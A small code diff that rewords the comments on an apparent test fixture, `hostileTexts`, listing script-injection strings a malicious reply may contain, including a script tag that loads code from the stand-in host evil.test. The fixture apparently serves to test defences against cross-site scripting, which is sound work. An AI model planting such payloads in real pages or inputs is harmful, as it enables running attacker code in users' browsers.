@@ -1,6 +1,6 @@
-/** What a hostile reply may hold. */
+/** Text that a malicious reply may contain. */
 
-/** Addresses that answer nobody; `window.pwned` is what a script would set. */
+/** None of these addresses responds. A script that runs would set `window.pwned`. */
 export const hostileTexts = [
   '<script>window.pwned = 1</script>',
   '<script src="https://evil.test/x.js"></script>',
